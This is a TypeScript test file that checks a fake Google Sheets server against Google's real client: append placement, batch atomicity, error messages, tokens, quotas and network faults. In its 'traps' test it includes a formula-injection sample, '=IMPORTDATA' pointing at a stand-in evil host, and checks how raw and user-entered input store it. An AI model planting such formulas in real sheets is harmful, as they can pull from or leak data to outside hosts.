/** The double is honest: Google's own client and its own types work with it, in success and in failure. */
import { sheets } from '@googleapis/sheets'
import type { sheets_v4 } from '@googleapis/sheets'
import { JWT } from 'google-auth-library'
import { expect, test } from 'vitest'
import { startFakeSheets } from './server.ts'
import type { FakeSheets, FakeSheetsOptions } from './server.ts'

const TOKEN_URL = 'https://oauth2.googleapis.com/token'

/** The library asks the token endpoint at the address it knows; here it is led to the double. */
const ledToDouble =
  (google: FakeSheets): typeof fetch =>
  (input, init) => {
    const url = String(input instanceof Request ? input.url : input)
    return fetch(url === TOKEN_URL ? `${google.url}/token` : input, init)
  }

function client(google: FakeSheets) {
  const { client_email: email = '', private_key: key = '' } = google.keyFile
  const auth = new JWT({
    email,
    key,
    scopes: ['https://www.googleapis.com/auth/spreadsheets'],
    transporterOptions: { fetchImplementation: ledToDouble(google) },
  })
  const api = sheets({ version: 'v4', rootUrl: `${google.url}/`, auth, retry: false })
  return { auth, api, id: google.spreadsheet.id }
}

async function scene(options: FakeSheetsOptions = {}) {
  const google = await startFakeSheets(options)
  const { api, auth, id } = client(google)
  const append = async (range: string, values: unknown[][], more: object = {}) =>
    (
      await api.spreadsheets.values.append({
        spreadsheetId: id,
        range,
        valueInputOption: 'RAW',
        requestBody: { values },
        ...more,
      })
    ).data
  return { google, api, auth, id, append, [Symbol.asyncDispose]: () => google[Symbol.asyncDispose]() }
}

/** What Google's client throws. */
const refusal = async (call: Promise<unknown>) => {
  const error = (await call.then(
    () => null,
    (reason: unknown) => reason,
  )) as { status?: number; message: string } | null
  return { status: error?.status, message: error?.message }
}

test('append: the table decides where, and says so', async () => {
  await using s = await scene()
  const answer: sheets_v4.Schema$AppendValuesResponse = await s.append("'Answers'!A1", [
    ['Id', 'Name'],
    ['1', 'Ada'],
  ])
  expect(answer).toEqual({
    spreadsheetId: s.id,
    updates: { spreadsheetId: s.id, updatedRange: 'Answers!A1:B2', updatedRows: 2, updatedColumns: 2, updatedCells: 4 },
  })
  expect(await s.append('Answers!A1', [['2', 'Bob']])).toMatchObject({
    tableRange: 'Answers!A1:B2',
    updates: { updatedRange: 'Answers!A3:B3' },
  })
})

test('append as in the guide of Google: two tables, A1:C2 and B4:D6', async () => {
  const cases: readonly (readonly [string, string])[] = [
    ['Sheet1', 'B7'],
    ['Sheet1!B4', 'B7'],
    ['Sheet1!C5:D5', 'B7'],
    ['Sheet1!B2:D4', 'B7'],
    ['Sheet1!A3:G10', 'B7'],
    ['Sheet1!A1', 'A3'],
    ['Sheet1!E4', 'E4'],
  ]
  for (const [range, expected] of cases) {
    await using s = await scene({ tabs: [{ title: 'Sheet1' }] })
    const tab = s.google.spreadsheet.tab('Sheet1')
    for (const [row, first, last] of [
      [0, 0, 2],
      [1, 0, 2],
      [3, 1, 3],
      [4, 1, 3],
      [5, 1, 3],
    ] as const)
      for (let column = first; column <= last; column += 1) tab.set(row, column, `${row}${column}`)
    const whole = range === 'Sheet1' ? 'Sheet1!A1:Z1000' : range
    const { updates } = await s.append(whole, [['x']])
    expect([range, updates?.updatedRange]).toEqual([range, `Sheet1!${expected}`])
  }
})

test('the traps: a wrong column, a row above the header, formulas, rows overwritten', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  tab.set(0, 2, 'Header in C')
  expect((await s.append('Answers!A1:D1', [['x']])).updates?.updatedRange).toBe('Answers!C2')
  await s.append('Answers!A1', [['above']], { insertDataOption: 'INSERT_ROWS' })
  expect([tab.cell(0, 0), tab.cell(1, 2)]).toEqual(['above', 'Header in C'])

  const entered = { valueInputOption: 'USER_ENTERED' }
  const traps = ['=IMPORTDATA("https://evil.example")', '1', '2026-01-01', 'TRUE', "'=1"]
  await s.append('Answers!J1', [traps], entered)
  expect(tab.rows[0]?.slice(9)).toEqual([{ formula: traps[0] }, 1, 46_023, true, '=1'])
  await s.append('Answers!J1', [traps])
  expect(tab.rows[1]?.slice(9)).toEqual(traps)

  tab.set(4, 0, 'somebody else')
  tab.set(2, 0, 'h')
  tab.set(3, 0, null)
  const over = await s.append('Answers!A3', [['1'], ['2']])
  expect([over.updates?.updatedRange, tab.cell(4, 0)]).toEqual(['Answers!A4:A5', '2'])
})

test('reading, updating, and a batch that is applied as a whole or not at all', async () => {
  await using s = await scene({ tabs: [{ title: "It's", columnCount: 2 }] })
  const { spreadsheets } = s.api
  const put = { spreadsheetId: s.id, range: "'It''s'!A1", valueInputOption: 'RAW' }
  const updated = await spreadsheets.values.update({ ...put, requestBody: { values: [['a', 1], ['b']] } })
  expect(updated.data).toMatchObject({ updatedRange: "'It''s'!A1:B2", updatedCells: 3 })
  const got = { spreadsheetId: s.id, range: "'It''s'!A1:B5" }
  expect((await spreadsheets.values.get(got)).data.values).toEqual([['a', 1], ['b']])
  expect((await spreadsheets.values.get({ ...got, majorDimension: 'COLUMNS' })).data.values).toEqual([
    ['a', 'b'],
    [1, ''],
  ])

  const cell = (columnIndex: number, stringValue: string): sheets_v4.Schema$Request => ({
    updateCells: {
      start: { sheetId: 0, rowIndex: 0, columnIndex },
      rows: [{ values: [{ userEnteredValue: { stringValue } }] }],
      fields: 'userEnteredValue',
    },
  })
  const batch = (requests: sheets_v4.Schema$Request[]) =>
    spreadsheets.batchUpdate({ spreadsheetId: s.id, requestBody: { requests } })
  expect(await refusal(batch([cell(0, 'x'), cell(2, 'beyond')]))).toMatchObject({ status: 400 })
  expect(s.google.spreadsheet.tab("It's").cell(0, 0)).toBe('a')
  await batch([{ appendDimension: { sheetId: 0, dimension: 'COLUMNS', length: 1 } }, cell(2, '=c')])
  const read = await spreadsheets.get({ spreadsheetId: s.id, ranges: ["'It''s'!1:1"], includeGridData: true })
  const [sheet] = read.data.sheets ?? []
  expect(sheet?.properties).toMatchObject({ sheetId: 0, title: "It's", gridProperties: { columnCount: 3 } })
  expect(sheet?.data?.[0]?.rowData?.[0]?.values?.map(({ formattedValue }) => formattedValue)).toEqual(['a', '1', '=c'])
  expect(read.data.properties?.timeZone).toBe('Europe/Berlin')
})

test('rows appended by a batch go below everything, columns are inserted, and the answer shows what they met', async () => {
  await using s = await scene({ tabs: [{ title: 'Answers', columnCount: 3, rowCount: 4 }] })
  const tab = s.google.spreadsheet.tab('Answers')
  tab.set(0, 0, 'Id')
  tab.set(0, 1, 'Name')
  tab.set(2, 2, 'of a person')
  const kept: unknown[] = []
  s.google.kept = (rows) => kept.push(...rows)
  const text = (stringValue: string): sheets_v4.Schema$CellData => ({ userEnteredValue: { stringValue } })
  const row = (...values: sheets_v4.Schema$CellData[]): sheets_v4.Schema$Request => ({
    appendCells: { sheetId: 0, fields: 'userEnteredValue', rows: [{ values }] },
  })
  const insert = (startIndex: number): sheets_v4.Schema$Request => ({
    insertDimension: { range: { sheetId: 0, dimension: 'COLUMNS', startIndex, endIndex: startIndex + 1 } },
  })
  const batch = async (requests: sheets_v4.Schema$Request[]) =>
    s.api.spreadsheets.batchUpdate({
      spreadsheetId: s.id,
      requestBody: {
        requests,
        includeSpreadsheetInResponse: true,
        responseIncludeGridData: true,
        responseRanges: ['Answers!1:1'],
      },
    })
  const { data } = await batch([
    insert(1),
    row(text('1'), text('=1+1'), { userEnteredValue: { numberValue: 2 } }),
    row(text('2'), {}, { userEnteredValue: { formulaValue: '=1+1' } }, { userEnteredValue: { boolValue: true } }),
  ])
  expect(tab.rows.slice(2)).toEqual([
    [null, null, null, 'of a person'],
    ['1', '=1+1', 2],
    ['2', null, { formula: '=1+1' }, true],
  ])
  expect([tab.rowCount, tab.columnCount, kept.length]).toEqual([5, 4, 2])
  const [sheet] = data.updatedSpreadsheet?.sheets ?? []
  const header = sheet?.data?.[0]?.rowData?.[0]?.values?.map(({ formattedValue }) => formattedValue)
  expect(header).toEqual(['Id', undefined, 'Name'])

  const before = JSON.stringify(tab)
  const longText = 'x'.repeat(50_001)
  for (const [requests, words] of [
    [[row(text('3')), row(text(longText))], /^Invalid requests\[1\].appendCells: .*50000 characters/],
    [[row({}, {}, {}, {}, text('beyond'))], /^Invalid requests\[0\].appendCells: .*beyond/],
    [[row(text('3')), insert(4)], /^Invalid requests\[1\].insertDimension: range.startIndex\[4\] is after last column/],
    [[{ deleteNamedRange: { namedRangeId: 'none' } }], /No NamedRange with id: none/],
  ] as const)
    expect(await refusal(batch([...requests]))).toMatchObject({ status: 400, message: expect.stringMatching(words) })
  s.google.spreadsheet.cellsMax = 20
  expect((await refusal(batch([row(text('3'))]))).message).toMatch(/above the limit of 20 cells/)
  expect(JSON.stringify(tab)).toBe(before)
})

test('what is done late is done when nobody waits for it any more', async () => {
  await using s = await scene()
  const rows = () => s.google.spreadsheet.tab('Answers').filledRows().length
  s.google.fault = ({ kind }) => (kind === 'write' ? { kind: 'late' } : null)
  expect((await refusal(s.append('Answers!A1', [['x']]))).message).toBeDefined()
  expect(rows()).toBe(0)
  s.google.land()
  s.google.land()
  expect(rows()).toBe(1)
})

test('refusals in the shape of Google: range, grid, length of a cell, size, sharing, id', async () => {
  await using s = await scene()
  const { values } = s.api.spreadsheets
  expect(await refusal(s.append('Nothing!A1', [['x']]))).toEqual({
    status: 400,
    message: 'Unable to parse range: Nothing!A1',
  })
  const beyond = values.get({ spreadsheetId: s.id, range: 'Answers!AB1' })
  expect((await refusal(beyond)).message).toMatch(/exceeds grid limits. Max rows: 1000, max columns: 26/)
  expect((await refusal(s.append('Answers!A1', [['x'.repeat(50_001)]]))).message).toMatch(
    /more than the maximum of 50000 characters/,
  )
  s.google.spreadsheet.cellsMax = 26_000
  const full = s.append('Answers!A1', [['x']], { insertDataOption: 'INSERT_ROWS' })
  expect((await refusal(full)).message).toMatch(/above the limit of 26000 cells/)
  expect(await refusal(values.get({ spreadsheetId: 'another', range: 'A1' }))).toMatchObject({ status: 404 })
  s.google.readers.add(s.google.keyFile['client_email']!)
  s.google.editors.clear()
  expect(await refusal(s.append('Answers!A1', [['x']]))).toEqual({
    status: 403,
    message: 'The caller does not have permission',
  })
  expect((await values.get({ spreadsheetId: s.id, range: 'Answers!A1' })).status).toBe(200)
})

test('tokens: given for a good signature, refused for a bad one, and at an end when they are', async () => {
  await using s = await scene()
  await s.append('Answers!A1', [['x']])
  expect(s.google.tokens.given).toBe(1)
  s.google.tokens.expireAll()
  const direct = await fetch(`${s.google.url}/v4/spreadsheets/${s.id}`, { headers: { authorization: 'Bearer old' } })
  expect([direct.status, await direct.json()]).toMatchObject([401, { error: { status: 'UNAUTHENTICATED' } }])
  expect(await refusal(s.append('Answers!A1', [['x']]))).toMatchObject({ status: 401 })
  await client(s.google).auth.getAccessToken()
  expect(s.google.tokens.given).toBe(2)
  s.google.tokens.revoke(s.google.keyFile['client_email']!)
  const other = client(s.google)
  expect((await refusal(other.auth.getAccessToken())).message).toMatch(/invalid_grant/)
})

test('quotas, and every fault of the line', async () => {
  await using s = await scene({ quota: { reads: 3, writes: 2 } })
  const values: unknown[][] = [['x']]
  for (let n = 0; n < 2; n += 1) await s.append('Answers!A1', values)
  expect(await refusal(s.append('Answers!A1', values))).toMatchObject({
    status: 429,
    message: expect.stringMatching(/Quota exceeded for quota metric 'Write requests'/),
  })
  s.google.forget()
  const rows = () => s.google.spreadsheet.tab('Answers').filledRows().length
  for (const [kind, more] of [
    ['before', 0],
    ['lost', 1],
    ['cut', 1],
  ] as const) {
    s.google.forget()
    s.google.fault = ({ kind: of }) => (of === 'write' ? { kind } : null)
    const before = rows()
    expect((await refusal(s.append('Answers!A1', values))).message).toBeDefined()
    expect([kind, rows() - before]).toEqual([kind, more])
  }
  s.google.fault = () => ({ kind: 'status', status: 503 })
  expect(await refusal(s.append('Answers!A1', values))).toMatchObject({
    status: 503,
    message: 'The service is currently unavailable.',
  })
})
